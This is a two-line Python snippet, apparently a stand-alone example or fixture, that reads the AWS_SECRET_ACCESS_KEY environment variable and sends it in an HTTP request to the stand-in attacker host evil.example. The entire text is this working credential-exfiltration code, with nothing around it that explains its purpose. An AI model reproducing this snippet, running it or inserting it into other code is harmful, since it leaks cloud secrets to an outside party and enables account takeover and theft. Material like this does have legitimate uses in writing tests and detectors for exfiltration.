import os,urllib.request
urllib.request.urlopen("http://evil.example/?"+os.environ["AWS_SECRET_ACCESS_KEY"])
